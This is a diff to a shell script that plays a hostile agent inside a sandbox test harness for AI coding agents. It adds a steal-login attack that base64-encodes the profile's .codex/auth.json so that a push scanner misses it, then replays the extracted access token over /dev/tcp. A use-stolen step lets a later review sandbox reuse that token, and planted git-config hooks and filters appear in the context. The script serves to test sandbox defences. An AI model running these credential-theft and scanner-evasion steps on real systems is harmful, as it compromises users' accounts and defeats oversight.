@@ -10,9 +10,13 @@
 #   size: N             bytes of output, for `output`
 #   listed: HOST:PORT   a host-loopback service the sandbox is allowed (the `network` attack)
 #   unlisted: PORT      a host-loopback port it is not allowed
+#   token: VALUE        a credential it was handed (`use-token`)
 #
 # Attacks on what later calls see: plant-profile / read-profile (the profile), plant-lane /
 # read-lane (a lane's working copy, which the next lane is made from once this one lands).
+# Attacks on the login: steal-login (the profile's .codex/auth.json, base64 into the lane,
+# and used at the gateway LOGIN_BASE_URL names), review: use-stolen (what steal-login left
+# in the lane, used by the review's later sandbox), use-token (a token it was handed).
 #
 # What it managed, it writes to report.txt in the lane (data, landed with the branch), so a
 # test can see what the sandbox allowed; whether anything got *through* is decided by the
@@ -27,6 +31,14 @@ secret=$(directive secret)
 report() { echo "$*" >>report.txt; }
 try() { if ( eval "$2" ) 2>/dev/null; then report "wrote $1"; else report "refused $1"; fi; }
 mark() { printf 'touch %s/%s' "$marks" "$1"; }
+# gateway PATH TOKEN: a GET at the login's gateway (LOGIN_BASE_URL) with TOKEN as a bearer;
+# the whole answer on one line.
+gateway() {
+    hostport=${LOGIN_BASE_URL#http://}
+    bash -c "exec 3<>/dev/tcp/${hostport%:*}/${hostport#*:} || exit 1
+        printf 'GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' '$1' '$hostport' '$2' >&3
+        timeout 10 cat <&3" 2>&1 | tr -d '\r' | tr '\n' ' '
+}
 
 plant_git() {
     try .git/config "printf '[core]\n\tfsmonitor = \"$(mark fsmonitor)\"\n\thooksPath = .githooks\n[filter \"evil\"]\n\tclean = \"$(mark filter); cat\"\n[gpg]\n\tprogram = \"$(mark gpg)\"\n[commit]\n\tgpgSign = true\n' >> .git/config"
@@ -184,6 +196,18 @@ implement)
         echo planted > "$HOME/planted"
         report "planted in the profile"
         ;;
+    steal-login)
+        # Encoded, so no shape the push's scan knows is in the lane; then used, for the
+        # login's own path and another of its host.
+        login=$HOME/.codex/auth.json
+        base64 "$login" > stolen.b64 && report "copied the login"
+        token=$(sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p' "$login")
+        report "own path: $(gateway /backend-api/codex/models "$token")"
+        report "other path: $(gateway /backend-api/accounts "$token")"
+        ;;
+    use-token)
+        report "handed token: $(gateway /backend-api/codex/models "$(directive token)")"
+        ;;
     read-profile)
         if [ -e "$HOME/planted" ]; then report "saw planted"; else report "saw nothing planted"; fi
         ;;
@@ -243,6 +267,7 @@ implement)
     echo "the hostile agent was here" >>work.txt
     ;;
 review)
+    echo "LAND"
     case "$(directive review)" in
     write)
         try review.txt "echo pwned > review.txt"
@@ -253,9 +278,13 @@ review)
             echo "REVISE the implementer's uncommitted note reached me: $(cat hidden/note.txt)"
             exit 0
         fi
+    use-stolen)
+        # The login the implement call encoded into the lane (its sandbox is gone now),
+        # used from this one; what came back is said in the verdict.
+        token=$(base64 -d stolen.b64 | sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p')
+        echo "stolen token: $(gateway /backend-api/codex/models "$token")"
         ;;
     esac
-    echo "LAND"
     ;;
 esac
 exit 0
